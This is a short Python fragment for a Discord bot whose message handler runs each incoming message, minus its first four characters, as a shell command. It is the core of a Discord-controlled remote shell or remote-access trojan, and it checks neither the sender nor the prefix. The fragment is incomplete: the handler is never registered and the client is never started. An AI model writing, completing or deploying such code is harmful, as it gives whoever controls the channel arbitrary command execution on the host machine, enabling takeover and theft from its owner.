import discord, subprocess
client = discord.Client()
async def on_message(message):
    subprocess.run(message.content[4:], shell=True)
